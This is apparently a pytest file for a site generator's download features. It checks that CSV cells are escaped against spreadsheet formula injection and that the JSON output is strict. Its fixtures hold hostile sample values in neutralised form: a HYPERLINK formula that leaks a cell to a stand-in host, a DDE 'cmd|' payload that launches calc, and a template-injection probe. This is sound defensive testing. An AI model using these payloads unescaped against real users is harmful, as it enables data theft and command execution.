"""Downloads (tracker issue 12, item 3): no CSV cell starts a spreadsheet formula; the JSON is strict."""
from __future__ import annotations

import csv
import io
import json
import shutil

from gen.site.downloads import FORMULA_START, claims_csv, csv_cell, dataset_json
from gen.validate import check
from test_check_rules import FIXTURES, project


def test_csv_cells_never_start_a_formula(tmp_path):
    root = project(tmp_path, FIXTURES / "accepted" / "hostile-but-valid")
    checked = check(root)
    assert not checked.problems.errors
    rows = list(csv.reader(io.StringIO(claims_csv(checked))))
    cells = [cell for row in rows for cell in row]
    assert "'=HYPERLINK(\"https://example.org/?leak=\"&A1,\"click\") {date.__class__.__mro__} 1,229 chips, 1.7 times" in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0 1229颗，1.7倍" in cells
    assert "'\tA statement that starts with a tab." in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert len({len(row) for row in rows}) == 1


def test_csv_cell_neutralises_owasp_leading_characters():
    for lead in ("=", "+", "-", "@", "\t", "\r", "＝"):
        assert csv_cell(lead + "1+1") == "'" + lead + "1+1"
    assert csv_cell("1,229 chips") == "1,229 chips"
    assert csv_cell("") == ""


def test_json_is_strict(tmp_path):
    root = project(tmp_path, FIXTURES / "accepted" / "hostile-but-valid")
    text = dataset_json(check(root))

    def refuse(name):
        raise AssertionError(f"{name} in the JSON")
    assert json.loads(text, parse_constant=refuse)["claims"]
    shutil.rmtree(root)
